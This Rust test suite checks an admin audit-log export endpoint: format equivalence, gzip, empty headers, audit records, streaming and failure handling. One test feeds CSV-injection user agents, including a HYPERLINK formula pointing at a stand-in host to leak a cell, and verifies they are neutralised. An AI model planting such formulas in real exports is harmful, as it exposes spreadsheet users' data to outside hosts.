//! `GET /admin/audit/export`: the file equals `/logs` for the same filters in
//! every format, gzip decompresses, an empty CSV keeps its header, text that
//! a spreadsheet would run as a formula is neutralised in CSV only, and
//! every export leaves its audit row and its `log_export` admin action.

use std::time::Duration;

use nox_testkit::{TEST_ADMIN_TOKEN, TestApp, send, spawn_app};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::admin_audit::auditor;

const ADMIN: &str = TEST_ADMIN_TOKEN;

/// Alice's varied activity: a write whose path needs CSV quoting, a
/// read that fails with error details, a command-free 404.
async fn alice_activity(app: &TestApp) -> String {
    let alice = app.new_user("alice").await;
    send(
        app.request(Method::PUT, "/write?path=notes/a,%22b%22.txt", &alice.token)
            .body("line one\nline two"),
    )
    .await;
    app.get_as("/cat?path=missing.txt", &alice.token).await;
    app.get_as("/me", &alice.token).await;
    app.get_as("/nope", &alice.token).await;
    alice.id
}

async fn export(app: &TestApp, query: &str, token: &str) -> reqwest::Response {
    let response = app
        .get_as(&format!("/admin/audit/export?{query}"), token)
        .await;
    assert_eq!(response.status(), StatusCode::OK, "{query}");
    response
}

async fn logs(app: &TestApp, query: &str) -> Vec<Value> {
    let body: Value = app
        .get_as(&format!("/admin/audit/logs?{query}&page_size=1000"), ADMIN)
        .await
        .json()
        .await
        .expect("json");
    body["logs"].as_array().expect("logs").clone()
}

/// Whether a spreadsheet would take text for a formula: the six leading
/// characters the CSV export neutralises (OWASP's list).
fn starts_like_a_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The CSV text the export must hold for a `/logs` JSON value (text that
/// begins like a spreadsheet formula gets a leading `'` in CSV only).
fn same_value(csv: &str, json: &Value) -> bool {
    match json {
        Value::Null => csv.is_empty(),
        Value::Bool(b) => csv == b.to_string(),
        Value::Number(n) => csv.parse::<f64>().ok() == n.as_f64(),
        Value::String(s) if starts_like_a_formula(s) => csv.strip_prefix('\'') == Some(s.as_str()),
        Value::String(s) => csv == s,
        _ => serde_json::from_str::<Value>(csv).ok().as_ref() == Some(json),
    }
}

async fn table_columns(app: &TestApp) -> Vec<String> {
    app.db
        .client()
        .await
        .query(
            "SELECT column_name::text FROM information_schema.columns
             WHERE table_name = 'audit_actions' ORDER BY ordinal_position",
            &[],
        )
        .await
        .expect("columns")
        .iter()
        .map(|r| r.get(0))
        .collect()
}

#[tokio::test]
async fn csv_export_equals_the_logs_for_the_same_filters() {
    let app = spawn_app().await;
    let alice = alice_activity(&app).await;
    let filter = format!("user_id={alice}");
    let listed = logs(&app, &filter).await;
    assert!(listed.len() >= 4, "alice's rows are listed");

    let response = export(&app, &filter, ADMIN).await;
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    let disposition = response.headers()["content-disposition"]
        .to_str()
        .expect("ascii")
        .to_owned();
    let name = disposition
        .strip_prefix("attachment; filename=\"")
        .and_then(|rest| rest.strip_suffix('"'))
        .unwrap_or_else(|| panic!("{disposition}"));
    assert!(
        name.len() == "audit_logs_20260101_000000.csv".len()
            && name.starts_with("audit_logs_")
            && name.ends_with(".csv"),
        "{name}"
    );
    let body = response.bytes().await.expect("body");
    let mut reader = csv::Reader::from_reader(&body[..]);
    let header: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        header,
        table_columns(&app).await,
        "every column, schema order"
    );
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    assert_eq!(records.len(), listed.len());
    for (record, entry) in records.iter().zip(&listed) {
        for (name, text) in header.iter().zip(record.iter()) {
            assert!(
                same_value(text, &entry[name]),
                "{name}: csv {text:?} vs logs {}",
                entry[name]
            );
        }
    }
    assert!(
        records
            .iter()
            .any(|r| r.iter().any(|f| f == "notes/a,\"b\".txt")),
        "a field with a comma and quotes survives CSV quoting"
    );
}

#[tokio::test]
async fn json_ndjson_and_gzip_exports_parse_back_to_the_same_rows() {
    let app = spawn_app().await;
    let alice = alice_activity(&app).await;
    let filter = format!("user_id={alice}");
    let ids: Vec<Value> = logs(&app, &filter)
        .await
        .iter()
        .map(|r| r["id"].clone())
        .collect();

    let response = export(&app, &format!("{filter}&format=json"), ADMIN).await;
    assert_eq!(response.headers()["content-type"], "application/json");
    let array: Vec<Value> = response.json().await.expect("one JSON array");
    assert_eq!(
        array.iter().map(|r| r["id"].clone()).collect::<Vec<_>>(),
        ids
    );

    let response = export(&app, &format!("{filter}&format=ndjson"), ADMIN).await;
    assert_eq!(response.headers()["content-type"], "application/x-ndjson");
    let text = response.text().await.expect("text");
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("one object per line"))
        .collect();
    assert_eq!(lines, array, "ndjson holds the same objects as json");

    let plain = export(&app, &filter, ADMIN)
        .await
        .bytes()
        .await
        .expect("csv");
    let response = export(&app, &format!("{filter}&compress=true"), ADMIN).await;
    assert_eq!(response.headers()["content-type"], "application/gzip");
    assert!(response.headers().get("content-encoding").is_none());
    let disposition = response.headers()["content-disposition"]
        .to_str()
        .expect("ascii")
        .to_owned();
    assert!(disposition.ends_with(".csv.gz\""), "{disposition}");
    let compressed = response.bytes().await.expect("gzip");
    let mut decoder = async_compression::tokio::bufread::GzipDecoder::new(&compressed[..]);
    let mut unzipped = Vec::new();
    tokio::io::AsyncReadExt::read_to_end(&mut decoder, &mut unzipped)
        .await
        .expect("gzip decompresses");
    assert_eq!(unzipped, plain.to_vec());
}

/// User agents a spreadsheet would take for formulas (OWASP's CSV
/// injection list).
const FORMULA_AGENTS: [&str; 4] = ["=HYPERLINK(\"http://x\"&A2)", "+1", "-1", "@SUM(A1)"];

#[tokio::test]
async fn csv_export_neutralises_formulas_and_json_stays_exact() {
    let app = spawn_app().await;
    // Sent without a token: anyone can put text in the trail this way.
    for agent in FORMULA_AGENTS {
        let response = send(
            app.client
                .get(app.url("/csv-injection-probe"))
                .header(reqwest::header::USER_AGENT, agent),
        )
        .await;
        // An unknown path: refused (404), and audited like any request.
        assert!(response.status().is_client_error(), "{agent}");
    }
    // A tab or carriage return cannot begin a header value on the wire
    // (HTTP parsers strip leading whitespace and refuse a CR), so those two
    // rows go into the table directly, with a negative exit code and
    // response time that must stay numbers.
    let client = app.db.client().await;
    client
        .execute(
            "INSERT INTO audit_actions (id, \"timestamp\", request_id, endpoint, route, http_method,
                 action_type, action_category, status_code, success, response_time_ms,
                 user_agent, exit_code, cpu_time_ms, metadata)
             SELECT gen_random_uuid(), now() - (i * interval '1 millisecond'), gen_random_uuid(),
                    '/csv-injection-probe', 'unmatched', 'GET', 'seeded', 'general', 500, false,
                    -1.5, agent, -1, -0.25, jsonb_build_object('note', '=1+1', 'n', -2)
             FROM unnest(ARRAY[E'\\t=1+1', E'\\r=1+1']) WITH ORDINALITY AS t(agent, i)",
            &[],
        )
        .await
        .expect("seed");
    let mut expected: Vec<String> = FORMULA_AGENTS.iter().map(|a| a.to_string()).collect();
    expected.extend(["\t=1+1".to_owned(), "\r=1+1".to_owned()]);
    expected.sort();
    let filter = "endpoint=csv-injection-probe";

    let body = export(&app, filter, ADMIN)
        .await
        .bytes()
        .await
        .expect("csv");
    let mut reader = csv::Reader::from_reader(&body[..]);
    let header = reader.headers().expect("header").clone();
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    assert_eq!(records.len(), expected.len(), "one row per probe");
    let mut agents: Vec<String> = Vec::new();
    for record in &records {
        let agent = &record[column("user_agent")];
        assert!(agent.starts_with('\''), "{agent:?} is neutralised");
        agents.push(agent[1..].to_owned());
        // No cell of the row begins like a formula but numbers (a sign).
        for (name, text) in header.iter().zip(record.iter()) {
            assert!(
                !starts_like_a_formula(text) || text.parse::<f64>().is_ok(),
                "{name}: {text:?}"
            );
        }
        if record[column("action_type")] == *"seeded" {
            assert_eq!(
                &record[column("exit_code")],
                "-1",
                "numbers keep their sign"
            );
            assert_eq!(&record[column("response_time_ms")], "-1.5");
            assert_eq!(&record[column("cpu_time_ms")], "-0.25");
            let metadata: Value =
                serde_json::from_str(&record[column("metadata")]).expect("JSON cell");
            assert_eq!(metadata, json!({"note": "=1+1", "n": -2}));
        }
    }
    agents.sort();
    assert_eq!(agents, expected, "the prefix is the only change");

    // JSON and NDJSON hold the exact values.
    let array: Vec<Value> = export(&app, &format!("{filter}&format=json"), ADMIN)
        .await
        .json()
        .await
        .expect("json");
    let text = export(&app, &format!("{filter}&format=ndjson"), ADMIN)
        .await
        .text()
        .await
        .expect("ndjson");
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("one object per line"))
        .collect();
    assert_eq!(lines, array);
    let mut exact: Vec<String> = array
        .iter()
        .map(|r| r["user_agent"].as_str().expect("agent").to_owned())
        .collect();
    exact.sort();
    assert_eq!(exact, expected, "JSON is never prefixed");
    for row in array.iter().filter(|r| r["action_type"] == "seeded") {
        assert_eq!(row["exit_code"], -1);
        assert_eq!(row["response_time_ms"], -1.5);
    }
}

#[tokio::test]
async fn an_empty_csv_export_still_has_its_header() {
    let app = spawn_app().await;
    let body = export(&app, "start_date=2999-01-01", ADMIN)
        .await
        .text()
        .await
        .expect("text");
    let header = table_columns(&app).await.join(",");
    assert_eq!(body, format!("{header}\r\n"));
    let body = export(&app, "start_date=2999-01-01&format=json", ADMIN)
        .await
        .text()
        .await
        .expect("text");
    assert_eq!(
        serde_json::from_str::<Value>(&body).expect("json"),
        json!([])
    );
}

/// Polls until `sql` (a count) reaches `expected`: the admin action is
/// written once the stream has ended, just after the last byte.
async fn eventually_count(app: &TestApp, sql: &str, expected: i64) {
    let client = app.db.client().await;
    let mut count = -1;
    // Patient: the whole suite shares two cores.
    for _ in 0..300 {
        count = client.query_one(sql, &[]).await.expect("count").get(0);
        if count == expected {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("{sql}: {count}, expected {expected}");
}

#[tokio::test]
async fn every_export_is_audited_and_recorded_as_log_export() {
    let app = spawn_app().await;
    let alice = alice_activity(&app).await;
    let audrey = auditor(&app).await;
    let filter = format!("user_id={alice}&limit=2");
    let text = export(&app, &filter, &audrey)
        .await
        .text()
        .await
        .expect("text");
    assert_eq!(
        text.lines().count(),
        3,
        "header and the 2 rows of the limit"
    );
    export(&app, "format=ndjson&compress=true", ADMIN)
        .await
        .bytes()
        .await
        .expect("body");

    eventually_count(
        &app,
        "SELECT count(*) FROM audit_admin_actions WHERE admin_action_type = 'log_export'",
        2,
    )
    .await;
    let client = app.db.client().await;
    let recorded = client
        .query_one(
            "SELECT new_values, target_user_id::text FROM audit_admin_actions
             WHERE admin_action_type = 'log_export' AND new_values->>'format' = 'csv'",
            &[],
        )
        .await
        .expect("the auditor's export");
    let values: Value = recorded.get(0);
    assert_eq!(values["rows"], 2);
    assert_eq!(values["limit"], 2);
    assert_eq!(values["outcome"], "completed");
    assert_eq!(values["filters"]["user_id"], alice.as_str());
    assert_eq!(recorded.get::<_, Option<String>>(1), Some(alice.clone()));
    eventually_count(
        &app,
        "SELECT count(*) FROM audit_actions
         WHERE action_type = 'audit_export' AND route = '/admin/audit/export' AND status_code = 200",
        2,
    )
    .await;
}

#[tokio::test]
async fn a_large_export_streams_every_row_and_a_dropped_download_is_recorded() {
    let app = spawn_app().await;
    let client = app.db.client().await;
    client
        .execute(
            "INSERT INTO audit_actions (id, \"timestamp\", request_id, endpoint, route, http_method,
                 action_type, action_category, status_code, success, response_time_ms, metadata)
             SELECT gen_random_uuid(), now() - (i * interval '1 millisecond'), gen_random_uuid(),
                    '/seeded', '/seeded', 'GET', 'seeded', 'general', 200, true, 1.25,
                    jsonb_build_object('i', i)
             FROM generate_series(1, 30000) AS i",
            &[],
        )
        .await
        .expect("seed");
    let text = export(&app, "action_type=seeded", ADMIN)
        .await
        .text()
        .await
        .expect("text");
    assert_eq!(text.lines().count(), 30_001);

    // Read one chunk, then hang up.
    let mut response = export(&app, "action_type=seeded&format=ndjson", ADMIN).await;
    let first = response.chunk().await.expect("a chunk").expect("not empty");
    assert!(!first.is_empty());
    drop(response);
    eventually_count(
        &app,
        "SELECT count(*) FROM audit_admin_actions
         WHERE new_values->>'outcome' = 'client_disconnected'",
        1,
    )
    .await;
    let rows: i64 = client
        .query_one(
            "SELECT (new_values->>'rows')::bigint FROM audit_admin_actions
             WHERE new_values->>'outcome' = 'client_disconnected'",
            &[],
        )
        .await
        .expect("rows")
        .get(0);
    assert!(rows > 0 && rows < 30_000, "{rows} rows before the hang-up");
}

#[tokio::test]
async fn bad_export_parameters_are_400_and_users_are_refused() {
    let app = spawn_app().await;
    let alice = app.new_user("alice").await;
    for (query, name) in [
        ("format=xml", "format"),
        ("compress=maybe", "compress"),
        ("limit=0", "limit"),
        ("limit=lots", "limit"),
        ("user_id=nope", "user_id"),
        ("page_size=5", "page_size"),
    ] {
        let response = app
            .get_as(&format!("/admin/audit/export?{query}"), ADMIN)
            .await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{query}");
        let body: Value = response.json().await.expect("json");
        assert_eq!(body["code"], "invalid_parameter");
        assert!(
            body["detail"].as_str().expect("detail").starts_with(name),
            "{query}: {body}"
        );
    }
    assert_eq!(
        app.get_as("/admin/audit/export", &alice.token)
            .await
            .status(),
        StatusCode::FORBIDDEN
    );
}

#[tokio::test]
async fn a_database_failure_mid_export_aborts_the_download_and_is_recorded() {
    let app = spawn_app().await;
    let client = app.db.client().await;
    client
        .execute(
            "INSERT INTO audit_actions (id, \"timestamp\", request_id, endpoint, route, http_method,
                 action_type, action_category, status_code, success, response_time_ms)
             SELECT gen_random_uuid(), now() - (i * interval '1 millisecond'), gen_random_uuid(),
                    '/seeded', '/seeded', 'GET', 'seeded', 'general', 200, true, 1
             FROM generate_series(1, 200000) AS i",
            &[],
        )
        .await
        .expect("seed");
    let mut response = export(&app, "action_type=seeded", ADMIN).await;
    response.chunk().await.expect("a first chunk");
    // The export's query is still running (the channel holds 4 chunks);
    // kill its backend.
    let killed: i64 = client
        .query_one(
            "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity
             WHERE query LIKE 'SELECT a.* FROM audit_actions a%' AND pid <> pg_backend_pid()",
            &[],
        )
        .await
        .expect("terminate")
        .get(0);
    assert_eq!(killed, 1, "the export's backend was found");
    let mut failed = false;
    loop {
        match response.chunk().await {
            Ok(Some(_)) => continue,
            Ok(None) => break,
            Err(_) => {
                failed = true;
                break;
            }
        }
    }
    assert!(
        failed,
        "the download ends in an error, not as a complete file"
    );
    eventually_count(
        &app,
        "SELECT count(*) FROM audit_admin_actions WHERE new_values->>'outcome' = 'failed'",
        1,
    )
    .await;
}
